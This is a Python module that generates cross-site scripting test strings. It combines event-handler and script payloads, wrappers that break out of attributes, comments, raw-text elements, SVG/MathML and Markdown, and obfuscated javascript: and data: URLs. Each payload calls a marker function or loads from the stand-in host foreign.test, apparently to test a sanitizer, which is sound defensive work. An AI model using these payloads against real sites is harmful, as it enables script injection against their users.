"""Makes texts that would run a script if one place took them for markup.

A core runs `xss(n)` or loads something from foreign.test; a wrapper brings it out of the
place in which it stands: an attribute, a comment, a raw-text element, another
namespace, a construct of Markdown. Every core is put into every wrapper, so the numbers multiply.
The kinds are those of public collections; the texts are made here.
"""
# ruff: noqa: E501 (a payload reads best on one line)

from __future__ import annotations

from itertools import product

HANDLERS = (
    *("<img src=x onerror={js}>", "<svg onload={js}>", "<svg/onload={js}//"),
    *(
        "<body onload={js}>",
        "<details open ontoggle={js}>",
        "<video src=x onerror={js}>",
    ),
    *("<audio src=x onerror={js}>", "<input autofocus onfocus={js}>"),
    *("<iframe srcdoc='<script>parent.{js}</script>'>", "<script>{js}</script>"),
    *(
        "<ScRiPt >{js}</sCrIpT>",
        "<script/x>{js}</script\n>",
        "<IMG SRC=x OnErRoR={js}>",
    ),
    *("<object data='javascript:{js}'>", "<embed src='javascript:{js}'>"),
    *(
        "<iframe src='javascript:parent.{js}'>",
        "<a href='javascript:{js}' autofocus>a</a>",
    ),
    *("<style onload={js}></style>", "<link rel=stylesheet href=x onerror={js}>"),
    *("<svg><animate onbegin={js} attributeName=x dur=1s>", "<marquee onstart={js}>x"),
    *(
        "<svg><script>{js}</script></svg>",
        "<math><maction xlink:href='javascript:{js}'>",
    ),
    *(
        "<img src='http://foreign.test/{n}.png'>",
        "<link rel=preload as=image href=//foreign.test/{n}>",
    ),
    *(
        "<style>@import 'http://foreign.test/{n}.css';</style>",
        "<base href=//foreign.test/>",
    ),
    *(
        "<img srcset='http://foreign.test/{n}.png 1x'>",
        "<p style='background:url(//foreign.test/{n})'>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//foreign.test/{n}'>",
        "<x id=x tabindex=1 onfocus={js}>",
    ),
)
"""What runs or loads by itself where it is taken for markup."""

WRAPPERS = (
    *("{0}", '">{0}', "'>{0}", "`>{0}", "-->{0}", "]]>{0}", "--!>{0}", "{0}<!--"),
    *("</script>{0}", "</style>{0}", "</title>{0}", "</textarea>{0}", "</noscript>{0}"),
    *("</template>{0}", "<template>{0}</template>", "<!--{0}", "<![CDATA[{0}]]>"),
    *('<noscript><p title="</noscript>{0}">', "<svg><style>{0}</style></svg>"),
    *("<math><mtext><table><mglyph><style><!--</style>{0}--></style>",),
    *(
        "<svg><desc><noscript>{0}</noscript></desc></svg>",
        "<svg></p><title>{0}</title>",
    ),
    *("<form><math><mtext></form><form><mglyph><svg><mtext><textarea>{0}",),
    *("<math><annotation-xml encoding='text/html'>{0}</annotation-xml></math>",),
    *(
        "<svg><foreignObject>{0}</foreignObject></svg>",
        "<table><td><select>{0}</table>",
    ),
    *(
        "<xmp>{0}</xmp>",
        "<listing>&lt;{0}</listing>",
        "<plaintext>{0}",
        "<a title='{0}'>",
    ),
    *("[a](<{0}>)", '[a](/x "{0}")', "![{0}](/x.png)", "![a](/x.png '{0}')"),
    *(
        "```{0}\n{0}\n```",
        "`{0}`",
        "**{0}**",
        "# {0}",
        "> {0}",
        "- {0}",
        "|{0}|\n|-|\n|{0}|",
    ),
    *(
        '[{0}][r]\n\n[r]: /x "{0}"',
        "~~{0}~~",
        "\\{0}",
        "&lt;{0}",
        "\u202e{0}",
        "\ufeff{0}",
    ),
)
"""How it gets out of where it stands."""

ADDRESSES = (
    *("javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}"),
    *(" javascript:{js}", "\x01javascript:{js}", "javascript&colon;{js}"),
    *("&#106;avascript:{js}", "&#x6A;avascript&#58;{js}", "javascript:%78ss(1)"),
    *("data:text/html,<script>{js}</script>", "data:image/svg+xml,<svg onload={js}>"),
    *("vbscript:{js}", "view-source:javascript:{js}", "blob:javascript:{js}"),
    *(
        "//foreign.test/{n}",
        "/\\foreign.test/{n}",
        "\\\\foreign.test/{n}",
        "/\t/foreign.test/{n}",
    ),
    *(
        "https:javascript:{js}",
        "https://a.test@foreign.test/{n}",
        "https:///foreign.test/{n}",
    ),
    *(
        'https://a.test/" onerror="{js}',
        "https://a.test/'onerror='{js}",
        "/x.png` onerror={js}",
    ),
    *(
        "http://foreign.test/{n}.png",
        "HTTP://FOREIGN.TEST/{n}.png",
        '/x" onmouseover="{js}',
    ),
)
"""For links, pictures, and fields that hold an address."""

AS_LINKS = (
    "[a]({0})",
    "![a]({0})",
    "[a](<{0}>)",
    "![a](<{0}>)",
    "<{0}>",
    "[a][r]\n\n[r]: {0}",
)


def payloads() -> list[str]:
    """Every text, each once; `xss(n)` names the n-th."""
    made = [w.replace("{0}", h) for h, w in product(HANDLERS, WRAPPERS)]
    made += [w.replace("{0}", a) for a, w in product(ADDRESSES, AS_LINKS)]
    return [_numbered(text, n) for n, text in enumerate(dict.fromkeys(made))]


def addresses() -> list[str]:
    """Every address alone."""
    return [_numbered(text, n) for n, text in enumerate(ADDRESSES)]


def _numbered(text: str, n: int) -> str:
    return text.replace("{js}", f"xss({n})").replace("{n}", str(n))
